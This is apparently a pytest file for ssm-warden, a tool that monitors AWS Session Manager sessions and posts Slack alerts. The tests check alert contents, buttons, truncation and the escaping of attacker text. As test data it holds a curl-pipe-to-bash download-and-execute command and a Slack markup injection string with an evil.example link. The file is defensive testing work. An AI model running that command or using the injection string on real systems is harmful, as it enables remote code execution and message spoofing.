"""Block Kit messages: what an on-call person sees, within Slack's limits, with nothing injected."""

from __future__ import annotations

import json
import re
from datetime import timedelta
from typing import Any

import pytest

from ssm_warden.models.actions import ActionKind, Mode
from ssm_warden.models.findings import Severity
from ssm_warden.slack.messages import (
    ACTION_ACK,
    ACTION_TERMINATE,
    MAX_BLOCKS,
    SessionSummary,
    SlackMessage,
    build_alert,
    build_interaction_note,
    build_summary,
    build_thread_root,
    headline,
    log_stream_url,
)
from ssm_warden_local.slack_sink import MAX_TEXT, validate_blocks
from tests.unit.slack.factories import EVENT_ID, NOW, action, finding, session_ref


def texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [v for k, v in value.items() if k == "text" and isinstance(v, str)] + [
            t for k, v in value.items() if not (k == "text" and isinstance(v, str)) for t in texts(v)
        ]
    if isinstance(value, list):
        return [t for v in value for t in texts(v)]
    return []


def everything(message: SlackMessage) -> str:
    return "\n".join([message.text, *texts(message.blocks)])


def blocks_of_type(message: SlackMessage, kind: str) -> list[dict[str, Any]]:
    return [b for b in message.blocks if b["type"] == kind]


def test_an_alert_says_severity_rule_attack_command_outcome_and_why() -> None:
    # Given a high-severity finding that ssm-warden terminated the session for
    a = action(kind=ActionKind.TERMINATE, severity=Severity.HIGH)
    # When the alert is built
    message = build_alert(a, "terminated")
    shown = everything(message)
    # Then the header carries severity and title, and the body the rule, the ATT&CK technique (linked),
    # the command in a code block, what was done and why
    header = blocks_of_type(message, "header")[0]["text"]["text"]
    assert "HIGH" in header and "Download piped to a shell" in header
    assert "`download_exec.curl_pipe_shell`" in shown
    assert "<https://attack.mitre.org/techniques/T1059/004/|T1059.004>" in shown
    assert "```curl -s http://203.0.113.9/x.sh | bash```" in shown
    assert "Session terminated" in shown
    assert "alice ran a downloaded script through bash" in shown
    # and the fallback text reads on its own in a notification
    assert message.text.startswith("[HIGH] Download piped to a shell")
    assert "terminated" in message.text


@pytest.mark.parametrize(
    ("outcome", "words"),
    [
        ("terminated", "Session terminated"),
        ("would_terminate", "Would terminate"),
        ("alert_only", "Alert only"),
        ("warned", "Warning"),
        ("failed", "FAILED"),
    ],
)
def test_the_outcome_is_spelled_out(outcome: str, words: str) -> None:
    kind = ActionKind.WARN if outcome == "warned" else ActionKind.TERMINATE
    mode = Mode.MONITOR if outcome == "would_terminate" else Mode.ENFORCE
    message = build_alert(action(kind=kind, mode=mode), outcome)
    assert words in message.blocks[1]["text"]["text"]


def test_a_failed_termination_says_the_session_may_still_run() -> None:
    message = build_alert(action(kind=ActionKind.TERMINATE), "failed")
    assert "Termination FAILED" in everything(message)
    assert "may still be running" in everything(message)


def test_a_standalone_alert_names_who_target_tags_and_links_but_a_thread_reply_does_not() -> None:
    a = action()
    standalone = everything(build_alert(a, "alert_only"))
    reply = "\n".join(texts(build_alert(a, "alert_only", in_thread=True).blocks))
    assert "assumed-role/Admin/alice" in standalone
    assert "`i-023ad911b5d49dece`" in standalone and "`env=prod`" in standalone
    assert "StartSession in CloudTrail" in standalone
    assert "assumed-role/Admin/alice" not in reply
    assert "`alice-0e34861185201706f`" in reply  # the session id stays: it is what buttons act on


def test_buttons_carry_only_ids() -> None:
    # Given an interactive alert about a running session
    message = build_alert(action(), "alert_only", interactive=True, extend_minutes=45)
    buttons = blocks_of_type(message, "actions")[0]["elements"]
    # Then there are Terminate now (confirmed), Extend 45 min and Acknowledge buttons
    assert [b["action_id"] for b in buttons] == [ACTION_TERMINATE, "ssmw.extend.45", ACTION_ACK]
    assert "confirm" in buttons[0]
    # and each value holds account, region, session id and action id, nothing else
    for button in buttons:
        value = json.loads(button["value"])
        assert set(value) == {"a", "r", "s", "x"}
        assert value["s"] == "alice-0e34861185201706f" and value["a"] == "123456789012"


def test_no_buttons_once_terminated_nor_without_interactivity() -> None:
    assert not blocks_of_type(build_alert(action(), "terminated", interactive=True), "actions")
    assert not blocks_of_type(build_alert(action(), "alert_only", interactive=False), "actions")
    assert not blocks_of_type(build_alert(action(no_session=True), "alert_only", interactive=True), "actions")


def test_a_folded_alert_shows_its_count() -> None:
    message = build_alert(action(), "alert_only", repeat_count=7, fold_window_minutes=5)
    assert "\u00d77" in blocks_of_type(message, "header")[0]["text"]["text"]
    assert "seen \u00d77 in 5 min" in everything(message)
    assert "\u00d77" in message.text


def test_an_account_level_alert_has_no_session_fields() -> None:
    message = build_alert(action(no_session=True, rule="tamper.preferences_changed"), "alert_only")
    assert "*Session*" not in everything(message)


def _huge_action() -> Any:
    command = "echo " + "A" * 20_000
    findings = [finding(command, rule=f"rule.{i}", title="T" * 300) for i in range(80)]
    return action(
        findings=findings,
        title="x" * 500,
        why="w" * 5_000,
        session=session_ref(target_tags={f"k{i}": "v" * 300 for i in range(40)}, reason="r" * 5_000),
    )


def test_limits_are_met_by_truncating_never_by_failing() -> None:
    # Given an action with far too much of everything
    a = _huge_action()
    # When alerts, thread roots and summaries are built
    messages = [
        build_alert(a, "alert_only", interactive=True),
        build_thread_root(a.session, headline_text=headline(a, "alert_only")),
        build_summary(a.session, SessionSummary(ended_at=NOW, commands_seen=10**6), in_thread=False),
    ]
    # Then each is within Slack's limits (as the local sink checks them) and says it was cut
    for message in messages:
        assert len(message.blocks) <= MAX_BLOCKS
        assert len(message.text) <= MAX_TEXT
        validate_blocks(message.blocks)
    assert "more findings in the audit trail" in everything(messages[0])
    assert "(truncated)" in everything(messages[0])


def test_who_did_what_stays_visible_on_a_message_already_at_the_block_limit() -> None:
    full = [{"type": "divider"}] * MAX_BLOCKS
    blocks = build_interaction_note(full, "Acknowledged by <@U0ALICE>", remove_buttons=False)
    assert len(blocks) == MAX_BLOCKS
    assert "Acknowledged by <@U0ALICE>" in json.dumps(blocks[-1])


ATTACKER = "<!channel> <@U024BE7LH> <https://evil.example|login> ```*done*``` & `x`"
OWN_LINK = re.compile(
    r"^<https://(?:us-east-1\.console\.aws\.amazon\.com|attack\.mitre\.org)/[^|<>\s]*\|[^<>]*>$"
)


def test_attacker_text_in_every_field_yields_no_markup_but_ssm_wardens_own_links() -> None:
    # Given attacker-controlled text in the command, the reason, the tags, the principal and the why
    s = session_ref(
        reason=ATTACKER,
        target_tags={"Name": ATTACKER},
        principal_arn=f"arn:aws:sts::123456789012:assumed-role/Admin/{ATTACKER}",
        target_id=ATTACKER,
    )
    a = action(session=s, why=ATTACKER, findings=[finding(ATTACKER)])
    messages = [
        build_alert(a, "alert_only", interactive=True),
        build_alert(a, "alert_only", in_thread=True),
        build_thread_root(s, headline_text=headline(a, "alert_only")),
        build_summary(s, SessionSummary(ended_at=NOW, ended_by=ATTACKER), in_thread=False),
    ]
    for message in messages:
        shown = everything(message)
        # Then every <...> entity is one of ssm-warden's own links (console, ATT&CK)
        for entity in re.findall(r"<[^>]*>", shown):
            assert OWN_LINK.match(entity), entity
        # and no text can close a code block early: fences come in pairs
        for text in texts(message.blocks):
            assert text.count("```") % 2 == 0


def test_the_thread_root_has_who_target_tags_document_reason_and_console_links() -> None:
    s = session_ref()
    root = build_thread_root(s, headline_text="*opened*")
    shown = everything(root)
    assert "`arn:aws:sts::123456789012:assumed-role/Admin/alice`" in shown
    assert "`i-023ad911b5d49dece`" in shown and "`team=payments`" in shown
    assert "`SSM-SessionManagerRunShell`" in shown
    assert "`INC-123 debug replication`" in shown
    assert "Status:* active" in shown
    assert log_stream_url(s) is not None
    assert (
        "/cloudwatch/home?region=us-east-1#logsV2:log-groups/log-group/$252Faws$252Fssm$252Fsessions"
        "/log-events/alice-0e34861185201706f"
    ) in shown
    assert f"/cloudtrailv2/home?region=us-east-1#/events/{EVENT_ID}" in shown


def test_a_thread_root_after_termination_and_summary() -> None:
    s = session_ref()
    summary = SessionSummary(
        started_at=NOW - timedelta(hours=1, minutes=2),
        ended_at=NOW,
        commands_seen=143,
        findings=4,
        actions={"alert": 3, "terminate": 1},
        worst_severity=Severity.CRITICAL,
        ended_by="ssm-warden",
        folded_alerts=12,
    )
    shown = everything(build_thread_root(s, status="terminated", status_at=NOW, summary=summary))
    assert "terminated by ssm-warden at 2026-03-02T14:30:05Z" in shown
    assert "duration 1h 02m" in shown and "143 commands seen" in shown
    assert "4 findings (worst: :red_circle: CRITICAL)" in shown
    assert "3 alert, 1 terminate" in shown and "12 repeated alerts folded" in shown
